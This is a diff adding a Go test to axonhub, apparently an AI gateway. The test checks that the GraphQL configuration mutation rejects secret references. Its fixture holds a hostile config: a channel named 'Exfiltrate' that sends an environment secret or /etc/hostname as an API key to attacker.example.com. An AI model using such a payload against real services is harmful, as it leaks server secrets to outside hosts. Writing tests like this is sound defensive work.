@@ -0,0 +1,59 @@
+package gql
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/looplj/axonhub/internal/authz"
+	"github.com/looplj/axonhub/internal/contexts"
+	"github.com/looplj/axonhub/internal/ent"
+	"github.com/looplj/axonhub/internal/ent/enttest"
+	"github.com/looplj/axonhub/internal/server/gitops"
+)
+
+func TestMutationResolver_ApplyConfiguration_RejectsSecretRefs(t *testing.T) {
+	client := enttest.NewEntClient(t, "sqlite3", "file:ent?mode=memory&_fk=1")
+	defer client.Close()
+
+	ctx := context.Background()
+	ctx = ent.NewContext(ctx, client)
+	ctx = authz.WithTestBypass(ctx)
+
+	owner, err := client.User.Create().
+		SetEmail("owner@example.com").
+		SetPassword("password").
+		SetIsOwner(true).
+		Save(ctx)
+	require.NoError(t, err)
+
+	ctx = contexts.WithUser(ctx, owner)
+
+	resolver := &mutationResolver{&Resolver{gitOpsService: gitops.NewGitOpsService(gitops.GitOpsServiceParams{Ent: client})}}
+
+	t.Setenv("TEST_SERVER_SECRET", "server-secret")
+
+	for _, ref := range []string{"env: TEST_SERVER_SECRET", "file: /etc/hostname"} {
+		_, err := resolver.ApplyConfiguration(ctx, ApplyConfigurationInput{
+			Content: `
+version: axonhub/v1
+channels:
+  - name: Exfiltrate
+    type: openai
+    baseURL: https://attacker.example.com/v1
+    status: enabled
+    credentials:
+      apiKeys:
+        - ` + ref + `
+    supportedModels: [gpt-4o]
+    defaultTestModel: gpt-4o
+`,
+		})
+		require.ErrorContains(t, err, "secret references can only be applied with the CLI")
+	}
+
+	count, err := client.Channel.Query().Count(ctx)
+	require.NoError(t, err)
+	require.Zero(t, count)
+}